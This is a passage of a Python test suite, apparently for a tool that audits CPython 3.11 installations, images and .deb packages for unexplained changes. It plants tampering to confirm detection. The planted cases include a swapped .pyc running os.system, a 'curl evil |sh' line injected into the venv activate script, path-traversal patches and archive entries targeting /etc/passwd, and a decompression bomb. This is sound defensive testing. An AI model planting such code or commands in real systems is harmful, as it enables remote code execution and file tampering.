"""The audit on real data: the verified 3.11.2 Lib/ from the fixture tarball, the host's Debian python3.11."""

from __future__ import annotations

import importlib.util
import marshal
import py_compile
import shutil
import sys
import tarfile
from pathlib import Path

import pytest

from verify.audit import AuditError, audit_installation
from verify.manifest import Manifest, scan_tree
from verify.report.audit import audit_to_dict, audit_to_json
from verify.source.releases import Version
from verify.source.unpack import extract_all_data

V3112 = Version.parse("3.11.2")
HOST_PREFIX = Path("/usr")


def _compile(source: Path, **kwargs: object) -> Path:
    cfile = importlib.util.cache_from_source(str(source))
    py_compile.compile(str(source), cfile=cfile, doraise=True, **kwargs)  # type: ignore[arg-type]
    return Path(cfile)


@pytest.fixture()
def installation(source_tree: Path, tmp_path: Path) -> Path:
    """A small prefix made from the verified Lib/, then tampered with in every way the audit must see."""
    if sys.version_info[:2] != (3, 11):
        pytest.skip("the test compiles 3.11 .pyc files with the running interpreter")
    prefix = tmp_path / "prefix"
    stdlib = prefix / "lib" / "python3.11"
    stdlib.mkdir(parents=True)
    for name in ("abc.py", "base64.py", "bisect.py", "heapq.py", "keyword.py", "json"):
        origin = source_tree / "Lib" / name
        if origin.is_dir():
            shutil.copytree(origin, stdlib / name)
        else:
            shutil.copy2(origin, stdlib / name)
    for py in sorted(stdlib.rglob("*.py")):
        _compile(py)
    (stdlib / "base64.py").write_text((stdlib / "base64.py").read_text() + "\n# distribution patch\n")
    _compile(stdlib / "base64.py")  # the patched file's own .pyc: consistent, but the source is modified
    (stdlib / "_distro_addon.py").write_text("X = 1\n")  # extra, not in Lib/
    (stdlib / "site-packages" / "thirdparty").mkdir(parents=True)
    (stdlib / "site-packages" / "thirdparty" / "__init__.py").write_text("")
    (stdlib / "_sysconfigdata__linux_x86_64-linux-gnu.py").write_text(
        "build_time_vars = {'CONFIG_ARGS': \"'--prefix=/usr' '--enable-shared' 'CFLAGS=-O2 -g'\"}\n"
    )
    # An orphan in __pycache__ and a sourceless .pyc where the import system would load it.
    shutil.copy(
        importlib.util.cache_from_source(str(stdlib / "heapq.py")), stdlib / "__pycache__" / "ghost.cpython-311.pyc"
    )
    shutil.copy(importlib.util.cache_from_source(str(stdlib / "heapq.py")), stdlib / "sneaky.pyc")
    # Stale: the source changed after compiling (size no longer matches the header).
    keyword = stdlib / "keyword.py"
    keyword.write_text(keyword.read_text().replace("kwlist", "kwlist ", 1))
    # Tampered: bisect's .pyc holds other code under a header that matches bisect.py exactly.
    bisect_pyc = Path(importlib.util.cache_from_source(str(stdlib / "bisect.py")))
    evil = compile("import os\nos.system('true')\n", str(stdlib / "bisect.py"), "exec")
    bisect_pyc.write_bytes(bisect_pyc.read_bytes()[:16] + marshal.dumps(evil))
    return prefix


def test_audit_names_every_deviation(installation: Path, source_tree: Path) -> None:
    report = audit_installation(installation, V3112, source_tree)
    # keyword.py was edited after compiling: modified against Lib/ and its .pyc is stale (below).
    assert [f.path for f in report.sources.modified] == ["lib/python3.11/base64.py", "lib/python3.11/keyword.py"]
    assert report.sources.modified[0].detail == "+2 -0 lines against Lib/"
    assert [f.path for f in report.sources.extra] == ["lib/python3.11/_distro_addon.py"]
    expected = {f.path: f.status for f in report.sources.expected_extra}
    assert expected == {
        "lib/python3.11/_sysconfigdata__linux_x86_64-linux-gnu.py": "generated",
        "lib/python3.11/site-packages": "third-party",
    }
    assert report.sources.missing_by_package()["asyncio"] > 10  # not installed in this small prefix
    assert [f.path for f in report.pyc.orphans] == [
        "lib/python3.11/__pycache__/ghost.cpython-311.pyc",
        "lib/python3.11/sneaky.pyc",
    ]
    assert report.pyc.orphans[1].status == "sourceless"
    assert [f.path for f in report.pyc.stale] == ["lib/python3.11/__pycache__/keyword.cpython-311.pyc"]
    assert "size=" in report.pyc.stale[0].detail
    assert report.pyc.recompiled == 0 and "no independent interpreter" in report.pyc.reference
    assert report.config_args_list == ("--prefix=/usr", "--enable-shared", "CFLAGS=-O2 -g")
    assert not report.clean


def test_recompiling_with_a_reference_interpreter_catches_swapped_code(installation: Path, source_tree: Path) -> None:
    report = audit_installation(installation, V3112, source_tree, reference_python=Path(sys.executable))
    assert [f.path for f in report.pyc.mismatched] == ["lib/python3.11/__pycache__/bisect.cpython-311.pyc"]
    assert report.pyc.mismatched[0].status == "code-mismatch"
    assert report.pyc.recompiled == report.pyc.header_ok
    assert report.pyc.equivalent == report.pyc.recompiled - 1
    assert f"with {sys.executable}" in report.pyc.reference


def test_reference_inside_the_audited_prefix_is_refused(installation: Path, source_tree: Path) -> None:
    inside = installation / "bin" / "python3.11"
    inside.parent.mkdir()
    inside.symlink_to(sys.executable)
    # The link lives in the prefix, but it resolves elsewhere: only the resolved interpreter counts.
    resolved_elsewhere = audit_installation(installation, V3112, source_tree, reference_python=inside)
    assert resolved_elsewhere.pyc.recompiled > 0
    copy = installation / "bin" / "python-copy"
    copy.write_bytes(b"#!/bin/sh\n")
    refused = audit_installation(installation, V3112, source_tree, reference_python=copy)
    assert "belongs to the audited installation" in refused.pyc.reference
    assert refused.pyc.recompiled == 0


def test_elf_files_against_a_rebuild_manifest(installation: Path, source_tree: Path) -> None:
    dynload = installation / "lib" / "python3.11" / "lib-dynload"
    dynload.mkdir()
    real = sorted((Path("/usr/lib/python3.11/lib-dynload")).glob("*.so"))[:3]
    for so in real:
        shutil.copy(so, dynload / so.name)
    rebuild_root = installation.parent / "rebuild" / "opt" / "python" / "lib" / "python3.11" / "lib-dynload"
    rebuild_root.mkdir(parents=True)
    shutil.copy(real[0], rebuild_root / real[0].name)
    shutil.copy(real[2], rebuild_root / real[1].name)  # same name, other bytes
    manifest = Manifest(inputs={}, entries=scan_tree(installation.parent / "rebuild"))
    report = audit_installation(installation, V3112, source_tree, against=manifest)
    assert report.elf.checked == 3 and report.elf.matching == 1
    assert [f.path for f in report.elf.differing] == [f"lib/python3.11/lib-dynload/{real[1].name}"]
    assert [f.path for f in report.elf.not_in_rebuild] == [f"lib/python3.11/lib-dynload/{real[2].name}"]


def test_wrong_prefix_is_a_clear_error(tmp_path: Path, source_tree: Path) -> None:
    with pytest.raises(AuditError, match="no standard library"):
        audit_installation(tmp_path, V3112, source_tree)
    (tmp_path / "lib" / "python3.11").mkdir(parents=True)
    with pytest.raises(AuditError, match="no Lib/"):
        audit_installation(tmp_path, V3112, tmp_path)


def test_host_debian_python_shows_its_patches(source_tree: Path) -> None:
    """This machine's own Debian python3.11: patches appear by name, CONFIG_ARGS say how it was built."""
    report = audit_installation(HOST_PREFIX, V3112, source_tree)
    modified = {f.path for f in report.sources.modified}
    assert "lib/python3.11/sysconfig.py" in modified  # Debian's install-scheme patch
    assert "lib/python3.11/os.py" not in modified
    assert "lib/python3.11/_distutils_system_mod.py" in {f.path for f in report.sources.extra}
    assert "test" in report.sources.missing_by_package()  # split into libpython3.11-testsuite
    assert "--prefix=/usr" in report.config_args_list
    assert not report.pyc.orphans
    document = audit_to_dict(report)
    assert document["format"] == "cpython-verify/audit/v2" and document["clean"] is False
    assert document["passed"] is False and document["verdict"].startswith("AUDIT FAILED: ")
    assert audit_to_json(report) == audit_to_json(report)


# --- every file from the source, each difference explained ----------------------------------------

from verify.audit.inputs import read_patch_series  # noqa: E402
from verify.audit.patches import PatchError  # noqa: E402
from verify.audit.sources import read_source_model  # noqa: E402


def _install(source_tree: Path, prefix: Path, *, only: tuple[str, ...] = ()) -> Path:
    """Copy what make install copies from the source into ``prefix`` (all of it, or the files under ``only``)."""
    model = read_source_model(source_tree)
    stdlib = prefix / "lib" / "python3.11"
    for rel, origin in model.stdlib.items():
        if only and not rel.startswith(only):
            continue
        target = stdlib / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(source_tree / origin, target)
    return stdlib


def _patch(name: str, path: str, old: list[str], new: list[str], start: int = 1) -> str:
    """A real unified diff of ``path`` (quilt style, a/ and b/ prefixes)."""
    import difflib

    body = "".join(
        difflib.unified_diff(
            [line + "\n" for line in old], [line + "\n" for line in new], f"a/{path}", f"b/{path}", n=3
        )
    )
    return f"Description: {name}\n\n{body}"


def _series(directory: Path, patches: dict[str, str]) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    for name, text in patches.items():
        (directory / name).write_text(text)
    (directory / "series").write_text("# quilt series\n" + "".join(f"{name} -p1\n" for name in patches))
    return directory


@pytest.fixture()
def planted(source_tree: Path, tmp_path: Path) -> tuple[Path, Path]:
    """A small installation with one planted case per explanation, and the patch series that explains some."""
    prefix = tmp_path / "usr"
    stdlib = _install(
        source_tree,
        prefix,
        only=("json/", "venv/", "base64.py", "quopri.py", "uu.py", "heapq.py", "mailcap.py", "bisect.py"),
    )
    lib = source_tree / "Lib"
    heapq = (lib / "heapq.py").read_text().splitlines()
    patched_heapq = [*heapq[:3], "# patched by the distribution", *heapq[3:]]
    activate = (lib / "venv/scripts/common/activate").read_text().splitlines()
    patched_activate = [line.replace("deactivate nondestructive", "deactivate  nondestructive") for line in activate]
    new_module = ["X = 1"]
    patches = _series(
        tmp_path / "patches",
        {
            "heapq.diff": _patch("heapq.diff", "Lib/heapq.py", heapq, patched_heapq),
            "activate.diff": _patch("activate.diff", "Lib/venv/scripts/common/activate", activate, patched_activate),
            "new-module.diff": _patch("new-module.diff", "Lib/_added.py", [], new_module).replace(
                "--- a/Lib/_added.py", "--- /dev/null"
            ),
            # Newer than the installation: a security fix the installation does not have must not count.
            "later-fix.diff": _patch("later-fix.diff", "Lib/heapq.py", heapq, [*heapq, "# a later fix"]),
        },
    )
    (stdlib / "heapq.py").write_text("\n".join(patched_heapq) + "\n")
    (stdlib / "venv/scripts/common/activate").write_text("\n".join(patched_activate) + "\n")
    (stdlib / "_added.py").write_text("X = 1\n")
    # A patched part plus a part no patch accounts for.
    (stdlib / "json/decoder.py").write_text((lib / "json/decoder.py").read_text() + "# nobody's patch\n")
    # An activate edit no patch explains.
    fish = stdlib / "venv/scripts/posix/activate.fish"
    fish.write_text(fish.read_text().replace("VIRTUAL_ENV", "VIRTUAL_ENV_EVIL", 1))
    # Shebangs: rewritten to the installation's own interpreter, and to something else.
    for name, interpreter in (("base64.py", "/usr/bin/python3.11"), ("quopri.py", "/tmp/python3")):
        text = (stdlib / name).read_text().split("\n", 1)
        (stdlib / name).write_text(f"#! {interpreter}\n{text[1]}")
    # A relocated prefix: every changed line is the old directory replaced by another.
    (stdlib / "mailcap.py").write_text(
        (lib / "mailcap.py").read_text().replace("'/usr/local/etc/mailcap'", "'/opt/python/etc/mailcap'")
    )
    # A change that looks like one but is not: a path added where the source had none.
    (stdlib / "uu.py").write_text(
        (lib / "uu.py").read_text().replace("import binascii", "import binascii  # /opt/python/lib/x", 1)
    )
    # Debian's conventions, in the exact form, and a look-alike that is not one.
    (stdlib / "EXTERNALLY-MANAGED").write_text("[externally-managed]\n")
    (stdlib / "sitecustomize.py").symlink_to("/etc/python3.11/sitecustomize.py")
    (stdlib / "usercustomize.py").symlink_to("/etc/python3.11/sitecustomize.py")
    (stdlib / "lib-dynload").mkdir()
    shutil.copy(next(Path("/usr/lib/python3.11/lib-dynload").glob("_json.*.so")), stdlib / "lib-dynload")
    shutil.copy(
        next(Path("/usr/lib/python3.11/lib-dynload").glob("_json.*.so")),
        stdlib / "lib-dynload" / "_evil.cpython-311-x86_64-linux-gnu.so",
    )
    return prefix, patches


def test_every_planted_difference_is_explained_or_named(planted: tuple[Path, Path], source_tree: Path) -> None:
    prefix, patch_dir = planted
    report = audit_installation(
        prefix, V3112, source_tree, patches=read_patch_series(patch_dir), distribution="debian", install_prefix="/usr"
    )
    by_path = {f.path.removeprefix("lib/python3.11/"): f for f in report.sources.modified}
    assert by_path["heapq.py"].status == "patched" and by_path["heapq.py"].patches == ("heapq.diff",)
    assert by_path["venv/scripts/common/activate"].patches == ("activate.diff",)
    assert by_path["venv/scripts/common/activate"].status == "patched"
    assert by_path["json/decoder.py"].status == "modified"
    assert by_path["venv/scripts/posix/activate.fish"].status == "modified"
    assert (by_path["base64.py"].status, by_path["base64.py"].transform) == ("transformed", "shebang-rewritten")
    assert "/usr/bin/python3.11" in by_path["base64.py"].detail
    assert by_path["quopri.py"].status == "modified", "a shebang to another program is not explained"
    assert (by_path["mailcap.py"].status, by_path["mailcap.py"].transform) == ("transformed", "relocated-prefix")
    assert by_path["mailcap.py"].detail == "prefix /usr/local relocated to /opt/python"
    expected = {f.path.removeprefix("lib/python3.11/"): f for f in report.sources.expected_extra}
    assert expected["_added.py"].status == "added-by-patch" and expected["_added.py"].patches == ("new-module.diff",)
    assert expected["EXTERNALLY-MANAGED"].convention == "externally-managed"
    assert expected["sitecustomize.py"].convention == "sitecustomize-etc"
    assert "1 extension module" in expected["lib-dynload"].detail
    assert report.unexplained == tuple(
        f"lib/python3.11/{rel}"
        for rel in (
            "json/decoder.py",
            "lib-dynload/_evil.cpython-311-x86_64-linux-gnu.so",
            "quopri.py",
            "usercustomize.py",
            "uu.py",
            "venv/scripts/posix/activate.fish",
        )
    )
    assert "+1 -0 lines left unexplained" not in by_path["json/decoder.py"].detail  # no patch touched it
    groups = {g.group: g for g in report.sources.missing_groups}
    assert groups["test"].package == "libpython3.11-testsuite" and groups["idlelib"].package == "idle-python3.11"
    document = audit_to_dict(report)
    assert document["unexplained"] == list(report.unexplained) and document["clean"] is False
    assert set(document["conventions"]) >= {"externally-managed", "sitecustomize-etc", "shebang-rewrite"}
    assert "every interpreter start" in document["conventions"]["sitecustomize-etc"]["effect"]


def test_without_a_distribution_no_convention_is_applied(planted: tuple[Path, Path], source_tree: Path) -> None:
    prefix, patch_dir = planted
    report = audit_installation(prefix, V3112, source_tree, patches=read_patch_series(patch_dir), install_prefix="/usr")
    assert {"lib/python3.11/EXTERNALLY-MANAGED", "lib/python3.11/sitecustomize.py"} <= set(report.unexplained)
    assert all(not g.package for g in report.sources.missing_groups)


def test_a_patch_accounting_for_part_of_a_file_leaves_the_rest_unexplained(source_tree: Path, tmp_path: Path) -> None:
    prefix = tmp_path / "usr"
    stdlib = _install(source_tree, prefix, only=("heapq.py",))
    heapq = (source_tree / "Lib/heapq.py").read_text().splitlines()
    patched = [*heapq[:3], "# patched", *heapq[3:]]
    patches = _series(tmp_path / "patches", {"p.diff": _patch("p.diff", "Lib/heapq.py", heapq, patched)})
    (stdlib / "heapq.py").write_text("\n".join([*patched, "import os; os.system('id')"]) + "\n")
    report = audit_installation(prefix, V3112, source_tree, patches=read_patch_series(patches))
    (finding,) = report.sources.modified
    assert finding.status == "modified" and finding.patches == ("p.diff",)
    assert "+1 -0 lines left unexplained" in finding.detail
    assert report.unexplained == ("lib/python3.11/heapq.py",)


@pytest.mark.parametrize(
    ("name", "text", "message"),
    [
        ("up.diff", "--- a/../../etc/passwd\n+++ b/../../etc/passwd\n@@ -1 +1 @@\n-a\n+b\n", "outside the source tree"),
        ("abs.diff", "--- /etc/passwd\n+++ /etc/passwd\n@@ -1 +1 @@\n-a\n+b\n", "absolute"),
        ("mid.diff", "--- a/Lib/../../x\n+++ b/Lib/../../x\n@@ -1 +1 @@\n-a\n+b\n", "outside the source tree"),
    ],
)
def test_a_patch_with_traversal_paths_is_refused(tmp_path: Path, name: str, text: str, message: str) -> None:
    (tmp_path / name).write_text(text)
    (tmp_path / "series").write_text(f"{name}\n")
    with pytest.raises(PatchError, match=message):
        read_patch_series(tmp_path)
    (tmp_path / "series").write_text("../outside.diff\n")
    with pytest.raises(PatchError, match="outside the source tree"):
        read_patch_series(tmp_path)


# --- inputs: OCI images, tar archives, .deb packages; hostile ones ---------------------------------

import gzip  # noqa: E402
import hashlib  # noqa: E402
import io  # noqa: E402
import json  # noqa: E402
import os  # noqa: E402
import subprocess  # noqa: E402

from conftest import PROJECT_ROOT, run_cli  # noqa: E402

from verify.audit.inputs import InputError, find_prefixes, unpack_inputs  # noqa: E402
from verify.source.unpack import UnpackLimits  # noqa: E402


def _tar_bytes(entries: list[tuple[str, bytes | str | None, str]], *, compress: bool = False) -> bytes:
    """A tar archive from (name, data or link target, kind) with kind in file/dir/symlink/hardlink."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, data, kind in entries:
            info = tarfile.TarInfo(name)
            if kind == "dir":
                info.type, info.mode = tarfile.DIRTYPE, 0o755
                archive.addfile(info)
            elif kind in ("symlink", "hardlink"):
                info.type = tarfile.SYMTYPE if kind == "symlink" else tarfile.LNKTYPE
                info.linkname = str(data)
                archive.addfile(info)
            else:
                payload = data if isinstance(data, bytes) else str(data).encode()
                info.size, info.mode = len(payload), 0o644
                archive.addfile(info, io.BytesIO(payload))
    raw = buffer.getvalue()
    return gzip.compress(raw, mtime=0) if compress else raw


def _oci_layout(directory: Path, layers: list[bytes]) -> Path:
    """An OCI image layout written by hand: blobs named by digest, a manifest, an index."""
    blobs = directory / "blobs" / "sha256"
    blobs.mkdir(parents=True)

    def blob(data: bytes) -> str:
        digest = hashlib.sha256(data).hexdigest()
        (blobs / digest).write_bytes(data)
        return digest

    config = blob(json.dumps({"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers"}}).encode())
    manifest = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": f"sha256:{config}"},
        "layers": [
            {
                "mediaType": "application/vnd.oci.image.layer.v1.tar+gzip",
                "digest": f"sha256:{blob(layer)}",
                "size": len(layer),
            }
            for layer in layers
        ],
    }
    manifest_digest = blob(json.dumps(manifest).encode())
    (directory / "oci-layout").write_text('{"imageLayoutVersion": "1.0.0"}')
    (directory / "index.json").write_text(
        json.dumps(
            {
                "schemaVersion": 2,
                "manifests": [
                    {"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": f"sha256:{manifest_digest}"}
                ],
            }
        )
    )
    return directory


def _tree_entries(prefix_dir: Path, base: str) -> list[tuple[str, bytes | str | None, str]]:
    """Tar entries for every file under ``prefix_dir``, named below ``base``."""
    entries: list[tuple[str, bytes | str | None, str]] = []
    for path in sorted(prefix_dir.rglob("*")):
        name = f"{base}/{path.relative_to(prefix_dir).as_posix()}"
        if path.is_symlink():
            entries.append((name, os.readlink(path), "symlink"))
        elif path.is_dir():
            entries.append((name, None, "dir"))
        else:
            entries.append((name, path.read_bytes(), "file"))
    return entries


def test_oci_layout_layers_applied_in_order_with_whiteouts(source_tree: Path, tmp_path: Path) -> None:
    prefix = tmp_path / "build"
    _install(source_tree, prefix, only=("json/", "heapq.py", "base64.py", "bisect.py"))
    lower = _tar_bytes(
        [
            ("usr", None, "dir"),
            *_tree_entries(prefix, "usr"),
            ("usr/share/doc/python3.11/README", b"docs", "file"),
            ("usr/lib/python3.11/evil_in_lower.py", b"import os\n", "file"),
        ],
        compress=True,
    )
    upper = _tar_bytes(
        [
            ("usr/lib/python3.11/.wh.evil_in_lower.py", b"", "file"),  # deleted again by the upper layer
            ("usr/lib/python3.11/json/.wh..wh..opq", b"", "file"),  # the lower json/ is hidden ...
            ("usr/lib/python3.11/json/__init__.py", (source_tree / "Lib/json/__init__.py").read_bytes(), "file"),
            ("usr/lib/python3.11/planted.py", b"print('hi')\n", "file"),
        ],
        compress=True,
    )
    layout = _oci_layout(tmp_path / "image", [lower, upper])
    unpacked = unpack_inputs([layout], tmp_path / "scratch")
    assert find_prefixes(unpacked.root, "3.11") == ["usr"]
    stdlib = unpacked.root / "usr/lib/python3.11"
    assert not (stdlib / "evil_in_lower.py").exists()
    assert sorted(p.name for p in (stdlib / "json").iterdir()) == ["__init__.py"]
    report = audit_installation(unpacked.root / "usr", V3112, source_tree, install_prefix="/usr")
    assert report.unexplained == ("lib/python3.11/planted.py",)
    assert report.sources.missing_by_package()["json"] == 4  # ... so only __init__.py is left of it


def test_a_layer_digest_that_does_not_match_is_refused(tmp_path: Path) -> None:
    layout = _oci_layout(tmp_path / "image", [_tar_bytes([("usr/lib/python3.11/os.py", b"x", "file")])])
    blob = next(p for p in (layout / "blobs/sha256").iterdir() if p.read_bytes()[257:262] == b"ustar")
    blob.write_bytes(blob.read_bytes().replace(b"x", b"y", 1) if b"x" in blob.read_bytes()[512:] else b"")
    with pytest.raises(InputError, match="does not match its digest"):
        unpack_inputs([layout], tmp_path / "scratch")


def _deb(path: Path, package: str, data: bytes) -> Path:
    """A .deb as dpkg-deb builds it: ar with debian-binary, control.tar.gz, data.tar.*."""
    control = _tar_bytes(
        [("./", None, "dir"), ("./control", f"Package: {package}\nVersion: 1.0\n", "file")], compress=True
    )

    def member(name: str, payload: bytes) -> bytes:
        header = f"{name:<16}{0:<12}{0:<6}{0:<6}{100644:<8}{len(payload):<10}`\n".encode()
        return header + payload + (b"\n" if len(payload) % 2 else b"")

    path.write_bytes(
        b"!<arch>\n"
        + member("debian-binary", b"2.0\n")
        + member("control.tar.gz", control)
        + member("data.tar.gz", data)
    )
    return path


def test_debs_and_a_relocatable_tar(source_tree: Path, tmp_path: Path) -> None:
    prefix = tmp_path / "build"
    _install(source_tree, prefix, only=("json/", "heapq.py"))
    entries = _tree_entries(prefix, "./usr")
    half = len(entries) // 2
    debs = [
        _deb(tmp_path / "a.deb", "libpython-a", _tar_bytes([("./", None, "dir"), *entries[:half]], compress=True)),
        _deb(tmp_path / "b.deb", "libpython-b", _tar_bytes([("./", None, "dir"), *entries[half:]], compress=True)),
    ]
    unpacked = unpack_inputs(debs, tmp_path / "scratch-deb")
    assert unpacked.packages == ("libpython-a 1.0", "libpython-b 1.0")
    assert (unpacked.root / "usr/lib/python3.11/json/decoder.py").read_bytes() == (
        source_tree / "Lib/json/decoder.py"
    ).read_bytes()
    standalone = tmp_path / "cpython-3.11.2-x86_64-unknown-linux-gnu-install_only.tar.gz"
    standalone.write_bytes(_tar_bytes(_tree_entries(prefix, "python"), compress=True))
    unpacked = unpack_inputs([standalone], tmp_path / "scratch-tar")
    assert find_prefixes(unpacked.root, "3.11") == ["python"]


def run_audit(*args: object, cwd: Path = PROJECT_ROOT) -> subprocess.CompletedProcess[str]:
    return run_cli("audit", *args, env={"COLUMNS": "200"}, cwd=cwd, timeout=600)


def _hostile_layer(tmp_path: Path, entries: list[tuple[str, bytes | str | None, str]]) -> Path:
    return _oci_layout(tmp_path / "image", [_tar_bytes(entries, compress=True)])


HOSTILE = {
    "dotdot": ([("usr/lib/python3.11/os.py", b"", "file"), ("../../escaped", b"x", "file")], "'..' in path"),
    "absolute": ([("/tmp/escaped-absolute", b"x", "file")], "absolute path"),
    "symlink-out": ([("usr", None, "dir"), ("usr/up", "../../../escaped-dir", "symlink")], "points outside the root"),
    "under-symlink": (
        [("usr", None, "dir"), ("usr/link", "/", "symlink"), ("usr/link/escaped", b"x", "file")],
        "lies under the symlink",
    ),
    "whiteout-escape": (
        [("usr", None, "dir"), ("usr/link", "/", "symlink"), ("usr/link/.wh.etc", b"", "file")],
        "whiteout under a symlink",
    ),
    "whiteout-dotdot": ([("usr/../.wh.escaped", b"", "file")], "'..' in path"),
    "hardlink-out": ([("usr/x", "../../etc/passwd", "hardlink")], "'..' in path"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_image_layers_fail_with_one_line_and_write_nothing_outside(case: str, tmp_path: Path) -> None:
    entries, message = HOSTILE[case]
    image = _hostile_layer(tmp_path, entries)
    work = tmp_path / "a" / "b" / "work"
    work.parent.mkdir(parents=True)
    before = {p for p in tmp_path.rglob("*") if not p.is_relative_to(work)}
    result = run_audit("3.11.2", image, "--work-dir", work, "--offline", "--from", tmp_path)
    assert result.returncode == 2, result.stdout + result.stderr
    assert result.stderr.count("\n") == 1 and message in result.stderr and "Traceback" not in result.stderr
    after = {p for p in tmp_path.rglob("*") if not p.is_relative_to(work)}
    assert after == before
    assert not Path("/tmp/escaped-absolute").exists()


def test_thousands_of_layers_and_a_bomb_are_refused(tmp_path: Path) -> None:
    layer = _tar_bytes([("usr/x", b"x", "file")], compress=True)
    digest = hashlib.sha256(layer).hexdigest()
    layout = _oci_layout(tmp_path / "many", [layer])
    manifest_path = next(p for p in (layout / "blobs/sha256").iterdir() if b'"layers"' in p.read_bytes())
    manifest = json.loads(manifest_path.read_bytes())
    manifest["layers"] = [{"digest": f"sha256:{digest}"}] * 5000
    data = json.dumps(manifest).encode()
    new_digest = hashlib.sha256(data).hexdigest()
    (layout / "blobs/sha256" / new_digest).write_bytes(data)
    (layout / "index.json").write_text(json.dumps({"manifests": [{"digest": f"sha256:{new_digest}"}]}))
    result = run_audit("3.11.2", layout, "--work-dir", tmp_path / "w1", "--offline", "--from", tmp_path)
    assert result.returncode == 2 and "5000 layers, more than 128" in result.stderr, result.stderr
    # A layer that inflates past the cap stops at the cap, not at the end of the bomb.
    bomb = gzip.compress(_tar_bytes([("usr/zeros", b"\0" * (64 << 20), "file")]), compresslevel=9)
    assert len(bomb) < 200_000
    with pytest.raises(InputError, match="cap"):
        unpack_inputs(
            [_oci_layout(tmp_path / "bomb", [bomb])],
            tmp_path / "w2",
            limits=UnpackLimits(max_total_bytes=8 << 20, max_entries=100),
        )


def test_a_hostile_deb_and_a_hostile_patch_fail_with_one_line(tmp_path: Path, source_tree: Path) -> None:
    deb = _deb(tmp_path / "evil.deb", "evil", _tar_bytes([("./", None, "dir"), ("./../../escaped", b"x", "file")]))
    work = tmp_path / "w" / "work"
    result = run_audit("3.11.2", deb, "--work-dir", work, "--offline", "--from", tmp_path)
    assert result.returncode == 2 and "'..' in path" in result.stderr and result.stderr.count("\n") == 1
    assert not (tmp_path / "escaped").exists() and not (tmp_path / "w" / "escaped").exists()
    truncated = tmp_path / "short.deb"
    truncated.write_bytes(deb.read_bytes()[:200])
    result = run_audit("3.11.2", truncated, "--offline", "--from", tmp_path)
    assert result.returncode == 2 and "runs past the end" in result.stderr, result.stderr
    patches = tmp_path / "patches"
    patches.mkdir()
    (patches / "series").write_text("evil.diff\n")
    (patches / "evil.diff").write_text("--- a/../../etc/passwd\n+++ b/../../etc/passwd\n@@ -1 +1 @@\n-a\n+b\n")
    prefix = tmp_path / "prefix"
    _install(source_tree, prefix, only=("heapq.py",))
    result = run_audit("3.11.2", prefix, "--patches", patches, "--offline", "--from", tmp_path)
    assert result.returncode == 2 and "outside the source tree" in result.stderr and result.stderr.count("\n") == 1


@pytest.mark.skipif(shutil.which("podman") is None, reason="needs podman")
@pytest.mark.parametrize("image_format", ["docker-archive", "oci-archive"])
def test_a_real_podman_image_with_planted_changes(
    source_tree: Path, cpython_fixtures: Path, tmp_path: Path, image_format: str
) -> None:
    """podman import of an install tree with planted changes, podman save, then the whole command."""
    if sys.version_info[:2] != (3, 11):
        pytest.skip("the test compiles 3.11 .pyc files with the running interpreter")
    root = tmp_path / "rootfs"
    stdlib = _install(source_tree, root / "usr")
    for name in ("bisect.py", "heapq.py"):
        _compile(stdlib / name)
    lib = source_tree / "Lib"
    (stdlib / "json/decoder.py").write_text((lib / "json/decoder.py").read_text() + "import os\n")  # no patch
    activate = stdlib / "venv/scripts/common/activate"
    activate.write_text(activate.read_text().replace("deactivate () {", "deactivate () {\n    curl evil |sh", 1))
    bisect_pyc = Path(importlib.util.cache_from_source(str(stdlib / "bisect.py")))
    evil = compile("import os\nos.system('true')\n", str(stdlib / "bisect.py"), "exec")
    bisect_pyc.write_bytes(bisect_pyc.read_bytes()[:16] + marshal.dumps(evil))  # swapped, header still matches
    base64 = (stdlib / "base64.py").read_text().split("\n", 1)[1]
    (stdlib / "base64.py").write_text("#! /usr/bin/python3.11\n" + base64)  # a packager's shebang rewrite
    (root / "etc").mkdir()
    (root / "etc" / "hostname").write_text("image\n")  # outside the installation
    tarball = tmp_path / "rootfs.tar"
    with tarfile.open(tarball, "w") as archive:
        archive.add(root, arcname=".")
    tag = f"localhost/cpython-verify-audit-test:{os.getpid()}-{image_format}"
    subprocess.run(["podman", "import", str(tarball), tag], check=True, capture_output=True)
    try:
        saved = tmp_path / "image.tar"
        subprocess.run(
            ["podman", "save", "--format", image_format, "-o", str(saved), tag], check=True, capture_output=True
        )
    finally:
        subprocess.run(["podman", "rmi", "-f", tag], check=False, capture_output=True)
    html_report = tmp_path / "audit.html"
    result = run_audit(
        "3.11.2",
        saved,
        "--from",
        cpython_fixtures,
        "--offline",
        "--allow-missing",
        "openpgp",
        "--reference-python",
        sys.executable,
        "--work-dir",
        tmp_path / "work",
        "--json",
        "--html",
        html_report,
    )
    assert result.returncode == 1, result.stderr
    document = json.loads(result.stdout)
    assert document["unexplained"] == [
        "lib/python3.11/__pycache__/bisect.cpython-311.pyc",
        "lib/python3.11/json/decoder.py",
        "lib/python3.11/venv/scripts/common/activate",
    ]
    modified = {f["path"]: f for f in document["sources"]["modified"]}
    assert modified["lib/python3.11/base64.py"]["transform"] == "shebang-rewritten"
    assert document["prefix"] == "/usr" and document["out_of_scope"] == ["etc/hostname"]
    assert document["sources"]["identical"] == document["sources"]["checked"] - 3
    page = html_report.read_text()
    assert "AUDIT FAILED: 3 unexplained of " in page and "venv/scripts/common/activate" in page
    (kept,) = (tmp_path / "work").iterdir()  # the user's --work-dir keeps what was unpacked, to diff by hand
    assert (kept / "source").is_dir()


# --- slow: this machine's Debian python3.11, and Debian's own packages, with Debian's patches ------

APT_SOURCE_GLOBS = ("sources.list", "sources.list.d/*.list", "sources.list.d/*.sources")


def _apt_config(base: Path) -> dict[str, str]:
    """An APT configuration of our own: the host's enabled sources (its mirror, never one named here) plus deb-src."""
    parts = base / "sources.list.d"
    parts.mkdir(parents=True)
    for pattern in APT_SOURCE_GLOBS:
        for index, path in enumerate(sorted(Path("/etc/apt").glob(pattern))):
            text = path.read_text()
            if path.suffix == ".sources":
                text = (
                    "\n".join(
                        "Types: deb deb-src" if line.strip() == "Types: deb" else line for line in text.splitlines()
                    )
                    + "\n"
                )
